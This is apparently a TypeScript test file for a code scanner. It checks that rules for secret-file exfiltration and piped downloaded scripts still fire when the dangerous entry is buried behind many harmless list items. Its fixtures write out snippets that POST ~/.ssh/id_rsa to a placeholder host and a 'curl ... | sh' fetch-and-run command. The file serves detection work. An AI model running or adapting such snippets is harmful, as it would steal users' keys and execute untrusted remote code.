import { describe, expect, it } from 'vitest';
import { rulesOf } from './rules-of.ts';

/** Inert: the host is reserved (RFC 2606), and nothing of it is run. */
const SENT_TO = 'https://collect.example.invalid/in';
const DOWNLOAD = 'curl -s https://collect.example.invalid/i.sh | sh';

/** So many elements that nothing is to be said of, and then the one that matters. */
function padded(count: number, filler: string, last: string): string {
  return [...Array.from({ length: count }, (_, at) => filler.replace('#', String(at))), last].join(', ');
}

const SENDING: Readonly<Record<string, readonly [file: string, code: string]>> = {
  'a loop in Python': [
    'run.py',
    `import os, requests\nfor path in [LIST]:\n    requests.post('${SENT_TO}', data=open(os.path.expanduser(path)).read())\n`,
  ],
  'map in Python': [
    'run.py',
    `import os, requests\ndef put(path):\n    requests.post('${SENT_TO}', data=open(os.path.expanduser(path)).read())\nlist(map(put, [LIST]))\n`,
  ],
  'a comprehension in Python': [
    'run.py',
    `import os, requests\n[requests.post('${SENT_TO}', data=open(os.path.expanduser(path)).read()) for path in [LIST]]\n`,
  ],
  'forEach in JavaScript': [
    'run.js',
    `const fs = require('fs');\nconst os = require('os');\n[LIST].forEach((path) => fetch('${SENT_TO}', { method: 'POST', body: fs.readFileSync(path.replace('~', os.homedir())) }));\n`,
  ],
  'a loop in JavaScript': [
    'run.js',
    `const fs = require('fs');\nconst os = require('os');\nfor (const path of [LIST]) fetch('${SENT_TO}', { method: 'POST', body: fs.readFileSync(path.replace('~', os.homedir())) });\n`,
  ],
};

describe.each([1, 20, 300, 3_000])('a private file behind %d others', (count) => {
  it.each(Object.entries(SENDING))('is seen in %s', async (_, [file, code]) => {
    const listed = (last: string): string =>
      code.replace('LIST', padded(count, "'notes/#.txt'", `'${last}'`));
    expect(await rulesOf({ [file]: listed('~/.ssh/id_rsa') })).toContain('secret-file-to-network');
    expect(await rulesOf({ [file]: listed('~/notes/today.txt') })).not.toContain('secret-file-to-network');
  });
});

const RUNNING: Readonly<Record<string, readonly [file: string, code: string]>> = {
  'a loop in Python': ['run.py', 'import os\nfor line in [LIST]:\n    os.system(line)\n'],
  'map in Python': ['run.py', 'import os\nlist(map(os.system, [LIST]))\n'],
  'forEach in JavaScript': [
    'run.js',
    "const { execSync } = require('child_process');\n[LIST].forEach((line) => execSync(line));\n",
  ],
  'a loop in a shell': ['run.sh', 'lines=(LIST)\nfor line in "${lines[@]}"; do eval "$line"; done\n'],
};

describe.each([1, 20, 200])('a command behind %d others', (count) => {
  it.each(Object.entries(RUNNING))('is seen in %s', async (_, [file, code]) => {
    const listed = (last: string): string => {
      const text = padded(count, "'ls -l #'", `'${last}'`);
      return code.replace('LIST', file.endsWith('.sh') ? text.replaceAll(',', '') : text);
    };
    expect(await rulesOf({ [file]: listed(DOWNLOAD) })).toContain('downloaded-script-piped');
    expect(await rulesOf({ [file]: listed('ls -la') })).not.toContain('downloaded-script-piped');
  });
});
